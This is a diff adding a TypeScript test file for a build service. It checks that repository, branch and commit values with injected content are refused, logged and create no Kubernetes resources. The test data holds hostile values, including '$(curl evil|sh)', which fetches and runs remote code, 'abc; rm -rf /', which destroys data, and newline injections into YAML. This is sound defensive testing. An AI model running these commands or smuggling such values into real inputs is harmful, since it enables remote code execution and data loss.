@@ -1,0 +1,71 @@
+import { WorkflowFailedError } from '@temporalio/client';
+import { afterAll, beforeAll, expect, it, vi } from 'vitest';
+import { startBuild } from '../api/build-client';
+import { buildWorkflowId, UnsafeCommitInfoError } from '../common/build';
+import { logger } from '../common/logger';
+import type { CommitInfo } from '../common/types';
+import type { buildWorkflow } from '../workflows';
+import { SHA, TestCluster, testConfig, testTemporal, type TestTemporal } from './helpers';
+
+// Repo and branch names come from GitHub, which allows quotes, newlines and `$()` in them.
+// Even where the configured patterns let such a name through, it must inject nothing.
+
+const config = testConfig({
+  RUNBOAT_REPOS: JSON.stringify([{ repo: '.*', branch: '.*', builds: [{ image: 'odoo:16' }] }]),
+});
+const cluster = new TestCluster(config.buildNamespace);
+let temporal: TestTemporal;
+
+beforeAll(async () => {
+  await cluster.createNamespace();
+  temporal = await testTemporal(config, cluster);
+  await temporal.startWorker();
+});
+
+afterAll(async () => {
+  await temporal?.close();
+});
+
+const hostile: CommitInfo[] = [
+  { repo: 'oca/x"\n  injected: "yes', target_branch: '16.0', pr: null, git_commit: SHA('e') },
+  { repo: 'oca/x', target_branch: '16.0\nkind: Secret', pr: null, git_commit: SHA('e') },
+  { repo: 'oca/x', target_branch: '$(curl evil|sh)', pr: null, git_commit: SHA('e') },
+  { repo: 'oca/x', target_branch: '16.0', pr: null, git_commit: 'abc; rm -rf /' },
+];
+
+async function namespaceIsEmpty(): Promise<void> {
+  const [configMaps, deployments, jobs] = await Promise.all([
+    cluster.core.listNamespacedConfigMap({
+      namespace: config.buildNamespace,
+      labelSelector: 'runboat/build',
+    }),
+    cluster.apps.listNamespacedDeployment({ namespace: config.buildNamespace }),
+    cluster.batch.listNamespacedJob({ namespace: config.buildNamespace }),
+  ]);
+  expect([...configMaps.items, ...deployments.items, ...jobs.items]).toEqual([]);
+}
+
+it('refuses hostile repo, branch and sha values with a clear log line, creating nothing', async () => {
+  const warn = vi.spyOn(logger, 'warn');
+  for (const commit of hostile) {
+    await expect(startBuild(temporal.client, config, commit)).rejects.toBeInstanceOf(UnsafeCommitInfoError);
+  }
+  expect(warn).toHaveBeenCalledTimes(hostile.length);
+  expect(warn.mock.calls[1][0]).toMatchObject({ reason: expect.stringContaining('has characters outside') });
+  expect(warn.mock.calls[1][1]).toBe('build refused');
+  await namespaceIsEmpty();
+});
+
+it('fails a workflow started with hostile values behind the API, creating nothing', async () => {
+  const build = { name: 'hostile', slug: 'hostile', commit: hostile[1] };
+  const handle = await temporal.client.workflow.start<typeof buildWorkflow>('buildWorkflow', {
+    workflowId: buildWorkflowId('hostile'),
+    taskQueue: config.taskQueue,
+    args: [{ build, settings: { initTimeoutSeconds: 60, noCleanupJob: true } }],
+  });
+  const failure = await handle.result().catch((error: unknown) => error);
+  expect(failure).toBeInstanceOf(WorkflowFailedError);
+  const activityFailure = (failure as WorkflowFailedError).cause as Error & { cause?: Error };
+  expect(activityFailure.cause?.message).toContain('has characters outside');
+  await namespaceIsEmpty();
+});
